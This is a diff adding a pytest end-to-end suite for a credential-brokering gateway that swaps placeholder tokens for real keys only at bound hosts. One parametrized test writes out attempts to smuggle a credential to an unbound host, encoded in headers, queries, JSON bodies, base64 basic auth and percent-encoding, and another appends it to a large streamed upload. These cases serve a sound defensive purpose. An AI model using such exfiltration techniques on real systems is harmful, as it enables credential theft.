@@ -1,0 +1,272 @@
+"""Credential brokering end to end: real gateway, real upstreams that record what they got."""
+
+from __future__ import annotations
+
+import base64
+import json
+import os
+import ssl
+import subprocess
+from pathlib import Path
+from typing import Any
+from urllib.parse import quote
+
+import httpx
+import pytest
+import yaml
+from conftest import OTHER_TOKEN, OTHER_TOKEN_REF, SANDGATE, TOKEN, TOKEN_REF, GatewayFactory, RunningGateway
+from support import RecordingUpstream
+
+pytestmark = pytest.mark.slow
+
+REAL = "sk-live-REALSECRET-0123456789abcdef"
+FILE_SECRET = "filekey-REAL-abcdefghijklmnop-1"
+OTHER_REAL = "other-tenant-REAL-secret-000111"
+
+
+def tenant(
+    name: str, sandbox: str, token_ref: str, rules: list[dict[str, Any]], creds: list[dict[str, Any]]
+) -> str:
+    return yaml.safe_dump(
+        {
+            "tenant": name,
+            "sandboxes": [{"id": sandbox, "token": token_ref}],
+            "allow": rules,
+            "credentials": creds,
+        },
+        sort_keys=False,
+    )
+
+
+@pytest.fixture
+def gateway(
+    start_gateway: GatewayFactory,
+    https_upstream: RecordingUpstream,
+    http_upstream: RecordingUpstream,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+) -> RunningGateway:
+    monkeypatch.setenv("SANDGATE_TEST_SECRET", REAL)
+    monkeypatch.setenv("SANDGATE_TEST_OTHER", OTHER_REAL)
+    tls, plain = https_upstream.port, http_upstream.port
+    rules = [
+        {"hosts": ["api.test", "open.test"], "ports": [tls], "inspect": True},
+        {"hosts": ["api.test"], "ports": [plain]},
+    ]
+    creds = [
+        {
+            "name": "openai",
+            "secret": "env:SANDGATE_TEST_SECRET",
+            "hosts": ["api.test"],
+            "ports": [tls],
+            "env": "OPENAI_API_KEY",
+            "inject": {"header": "Authorization", "format": "Bearer {secret}"},
+        },
+        {
+            "name": "filekey",
+            "secret": "file:filekey.secret",
+            "hosts": ["api.test"],
+            "ports": [tls],
+            "inject": {"query": "api_key"},
+        },
+        {
+            "name": "broken",
+            "secret": "env:SANDGATE_TEST_MISSING",
+            "hosts": ["api.test"],
+            "ports": [tls],
+            "inject": {"header": "X-Broken-Key"},
+        },
+    ]
+    other = [
+        {
+            "name": "theirs",
+            "secret": "env:SANDGATE_TEST_OTHER",
+            "hosts": ["api.test"],
+            "ports": [tls],
+            "inject": {"header": "X-Their-Key"},
+        }
+    ]
+    gw = start_gateway(
+        {
+            "t1.yaml": tenant("t1", "sb1", TOKEN_REF, rules, creds),
+            "t2.yaml": tenant("t2", "sb2", OTHER_TOKEN_REF, rules, other),
+        },
+        prepare=lambda root: _write_secret(root / "rules" / "tenants" / "filekey.secret", FILE_SECRET),
+    )
+    return gw
+
+
+def _write_secret(path: Path, value: str) -> None:
+    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
+    with os.fdopen(fd, "w") as f:
+        f.write(value + "\n")
+
+
+def placeholders(gw: RunningGateway, sandbox: str) -> dict[str, str]:
+    out = subprocess.run(
+        [
+            SANDGATE,
+            "credentials",
+            "placeholders",
+            "--sandbox",
+            sandbox,
+            "--format",
+            "json",
+            "--config",
+            str(gw.root / "sandgate.yaml"),
+        ],
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
+    assert out.returncode == 0, out.stderr
+    return json.loads(out.stdout)
+
+
+def client(gw: RunningGateway, sandbox: str = "sb1", token: str = TOKEN, timeout: float = 10) -> httpx.Client:
+    return httpx.Client(
+        proxy=gw.proxy(sandbox, token),
+        verify=ssl.create_default_context(cafile=str(gw.ca_file)),
+        timeout=timeout,
+    )
+
+
+def assert_no_secret_anywhere(gw: RunningGateway, *texts: str) -> None:
+    haystacks = [gw.audit_path.read_text(), gw.log(), *texts]
+    for secret in (REAL, FILE_SECRET, OTHER_REAL):
+        assert not any(secret in h for h in haystacks), "a real secret leaked to the guest, audit or logs"
+
+
+def test_the_placeholder_becomes_the_real_key_only_at_the_bound_host(
+    gateway: RunningGateway, https_upstream: RecordingUpstream
+) -> None:
+    ph = placeholders(gateway, "sb1")
+    assert set(ph) == {"OPENAI_API_KEY", "SANDGATE_FILEKEY", "SANDGATE_BROKEN"}
+    assert all(v.startswith("sgph_") for v in ph.values())
+    with client(gateway) as c:
+        resp = c.get(
+            f"{https_upstream.url_for('api.test')}/v1/models",
+            headers={"Authorization": f"Bearer {ph['OPENAI_API_KEY']}"},
+        )
+    assert resp.status_code == 200
+    (req,) = https_upstream.requests
+    assert req.header("Authorization") == f"Bearer {REAL}"
+    echoed = resp.text
+    assert ph["OPENAI_API_KEY"] in echoed, "the echoed header comes back as the placeholder"
+    record = gateway.records(3)[-1]
+    assert (record["credentials"], record["injectors"]) == (["openai"], ["header"])
+    assert_no_secret_anywhere(gateway, echoed)
+
+
+def test_a_query_credential_is_injected_and_scrubbed_from_the_echo(
+    gateway: RunningGateway, https_upstream: RecordingUpstream
+) -> None:
+    ph = placeholders(gateway, "sb1")["SANDGATE_FILEKEY"]
+    with client(gateway) as c:
+        resp = c.get(f"{https_upstream.url_for('api.test')}/search?q=x&api_key={ph}")
+    assert resp.status_code == 200
+    assert https_upstream.requests[0].target == f"/search?q=x&api_key={FILE_SECRET}"
+    assert json.loads(resp.text)["path"] == f"/search?q=x&api_key={ph}"
+    assert_no_secret_anywhere(gateway, resp.text)
+
+
+def test_a_rotated_file_secret_is_used_on_the_next_request(
+    gateway: RunningGateway, https_upstream: RecordingUpstream
+) -> None:
+    ph = placeholders(gateway, "sb1")["SANDGATE_FILEKEY"]
+    url = f"{https_upstream.url_for('api.test')}/r?api_key={ph}"
+    with client(gateway) as c:
+        c.get(url)
+        _write_secret(gateway.rules_dir / "tenants" / "filekey.secret", "filekey-ROTATED-abcdefghijklmn")
+        c.get(url)
+    assert [r.target.split("api_key=")[1] for r in https_upstream.requests] == [
+        FILE_SECRET,
+        "filekey-ROTATED-abcdefghijklmn",
+    ]
+
+
+@pytest.mark.parametrize(
+    "where",
+    ["header", "query", "json body", "base64 basic auth", "percent-encoded query", "lower-cased header"],
+    ids=lambda w: f"a placeholder in a {w} to an unbound host is refused",
+)
+def test_exfiltration_to_an_unbound_host_is_refused(
+    gateway: RunningGateway, https_upstream: RecordingUpstream, where: str
+) -> None:
+    ph = placeholders(gateway, "sb1")["OPENAI_API_KEY"]
+    url = f"{https_upstream.url_for('open.test')}/collect"
+    kwargs: dict[str, Any] = {}
+    if where == "header":
+        kwargs["headers"] = {"X-Stolen": ph}
+    elif where == "query":
+        url += f"?k={ph}"
+    elif where == "json body":
+        kwargs["json"] = {"nested": {"key": ph}}
+    elif where == "base64 basic auth":
+        kwargs["headers"] = {"Authorization": "Basic " + base64.b64encode(f"user:{ph}".encode()).decode()}
+    elif where == "percent-encoded query":
+        url += "?k=" + quote(ph, safe="").replace("_", "%5F")
+    elif where == "lower-cased header":
+        kwargs["headers"] = {"x-stolen": ph.lower()}
+    with client(gateway) as c:
+        resp = c.post(url, **kwargs) if "json" in kwargs else c.get(url, **kwargs)
+    assert resp.status_code == 403
+    assert resp.headers["X-Sandgate-Reason"] == "credential_host_mismatch"
+    assert ph not in resp.text
+    assert https_upstream.requests == [], "the placeholder was never forwarded"
+    record = gateway.record(resp.json()["decision_id"])
+    assert record["credentials"] == ["openai"]
+    assert_no_secret_anywhere(gateway)
+
+
+def test_a_bound_host_on_another_port_gets_no_credential(
+    gateway: RunningGateway, http_upstream: RecordingUpstream
+) -> None:
+    ph = placeholders(gateway, "sb1")["OPENAI_API_KEY"]
+    with client(gateway) as c:
+        resp = c.get(f"{http_upstream.url_for('api.test')}/plain", headers={"Authorization": f"Bearer {ph}"})
+    assert resp.status_code == 403
+    assert resp.headers["X-Sandgate-Reason"] == "credential_host_mismatch"
+    assert http_upstream.requests == []
+
+
+def test_another_tenants_placeholder_is_refused_and_flagged(
+    gateway: RunningGateway, https_upstream: RecordingUpstream
+) -> None:
+    theirs = placeholders(gateway, "sb2")["SANDGATE_THEIRS"]
+    with client(gateway) as c:
+        resp = c.get(f"{https_upstream.url_for('api.test')}/x", headers={"X-Their-Key": theirs})
+    assert resp.status_code == 403
+    assert resp.headers["X-Sandgate-Reason"] == "credential_host_mismatch"
+    record = gateway.record(resp.json()["decision_id"])
+    assert record["broker"]["foreign"] is True
+    assert https_upstream.requests == []
+    with client(gateway, "sb2", OTHER_TOKEN) as c:
+        ok = c.get(f"{https_upstream.url_for('api.test')}/x", headers={"X-Their-Key": theirs})
+    assert ok.status_code == 200 and https_upstream.requests[0].header("X-Their-Key") == OTHER_REAL
+
+
+def test_an_unavailable_secret_fails_closed(
+    gateway: RunningGateway, https_upstream: RecordingUpstream
+) -> None:
+    ph = placeholders(gateway, "sb1")["SANDGATE_BROKEN"]
+    with client(gateway) as c:
+        resp = c.get(f"{https_upstream.url_for('api.test')}/x", headers={"X-Broken-Key": ph})
+    assert resp.status_code == 403
+    assert resp.headers["X-Sandgate-Reason"] == "internal_error"
+    assert https_upstream.requests == []
+
+
+def test_a_placeholder_at_the_end_of_a_streamed_body_never_reaches_an_unbound_host(
+    gateway: RunningGateway, https_upstream: RecordingUpstream
+) -> None:
+    ph = placeholders(gateway, "sb1")["OPENAI_API_KEY"]
+    body = b"x" * (3 * 1024 * 1024) + ph.encode()  # larger than the buffered limit: streamed
+    with client(gateway, timeout=3) as c:
+        try:
+            resp = c.post(f"{https_upstream.url_for('open.test')}/upload", content=body)
+            status = resp.status_code
+        except httpx.HTTPError:
+            status = None  # the gateway cut the stream
+    assert status != 200
+    assert not any(ph.encode() in r.body for r in https_upstream.requests)
